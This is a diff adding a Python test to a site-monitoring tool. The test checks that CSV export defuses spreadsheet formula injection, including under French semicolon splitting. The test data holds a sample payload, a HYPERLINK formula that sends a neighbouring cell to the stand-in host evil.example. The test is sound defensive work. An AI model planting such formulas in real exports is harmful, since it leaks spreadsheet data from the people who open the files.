@@ -91,3 +91,30 @@ def test_export_speaks_the_readers_language(tmp_path: Path) -> None:
     arabic = run_rasd("--config", str(config), "export", "--since", "2025-09-04", cwd=tmp_path, env={"RASD_LANG": "ar"})
     assert arabic.stderr.strip().endswith("صُدِّرت 5 مقالات")
     assert not missing.exists()
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
+    """Titles and texts come from any site. A CSV cell starting with =, +, -, @ (or tab, CR) is a formula in
+    the researcher's Excel or LibreOffice (`=HYPERLINK("…?"&A1, …)` sends another cell to the page's
+    address): OWASP's advice, a leading `'` (shown as nothing, it marks text) and every text cell quoted (a
+    French Excel splits on `;`). A number stays a number, negative too; Arabic text is written as it is."""
+    from rasd.monitor.records import write_records
+
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Lire la suite")'
+    records = [
+        {"title": attack, "score": -0.5, "text": "تعاونية نسائية بتيزنيت", "reasons": ["+1 cmd", "@SUM(A1)"]},
+        {"title": "Coopératives ;=1+1", "score": 0.75, "text": "-2+3", "reasons": ["\t=1+1"]},
+    ]
+    sink = io.StringIO()
+    assert write_records(records, "csv", sink, ["title", "score", "text", "reasons"]) == 2
+    rows = list(csv.DictReader(io.StringIO(sink.getvalue())))
+    assert rows[0] == {
+        "title": "'" + attack,
+        "score": "-0.5",
+        "text": "تعاونية نسائية بتيزنيت",
+        "reasons": "'+1 cmd | @SUM(A1)",
+    }
+    assert rows[1] == {"title": "Coopératives ;=1+1", "score": "0.75", "text": "'-2+3", "reasons": "'\t=1+1"}
+    # read as a French spreadsheet does (split on ";", quotes honoured): no cell starts a formula
+    for line in csv.reader(io.StringIO(sink.getvalue()), delimiter=";"):
+        assert not [cell for cell in line if cell.startswith(("=", "+", "-", "@"))], line
